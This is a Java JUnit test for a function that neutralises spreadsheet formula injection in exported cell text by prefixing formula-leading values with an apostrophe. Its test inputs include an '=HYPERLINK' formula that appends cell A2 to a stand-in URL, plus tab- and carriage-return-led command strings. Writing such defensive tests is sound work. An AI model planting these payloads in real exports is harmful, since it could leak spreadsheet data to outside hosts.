package vn.thanhhoa.planmap.text;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class CellTextTest {
  @ParameterizedTest(name = "[{0}] → [{1}]")
  @CsvSource(delimiter = '|', quoteCharacter = '`', value = {
      "=HYPERLINK(\"http://example.invalid/?x=\"&A2,\"x\") | '=HYPERLINK(\"http://example.invalid/?x=\"&A2,\"x\")",
      "@SUM(1+1)          | '@SUM(1+1)",
      "+84 912 345 678    | '+84 912 345 678",
      "-2+3               | '-2+3",
      "=1                 | '=1",
      "`\tcmd`            | `'\tcmd`",
      "`\rcmd`            | `'\rcmd`",
      "-12.5              | -12.5",
      "+84                | +84",
      "-1e5               | -1e5",
      "Cầu = đường        | Cầu = đường",
      "VI.2; VI.3         | VI.2; VI.3",
      "POINT (1 2)        | POINT (1 2)"})
  void formulaLeadingCellsArePrefixedAndOthersLeftAlone(String in, String out) {
    assertEquals(out, CellText.neutralise(in));
  }

  @org.junit.jupiter.api.Test
  void emptyAndNullStayAsTheyAre() {
    assertEquals("", CellText.neutralise(""));
    assertNull(CellText.neutralise(null));
  }
}
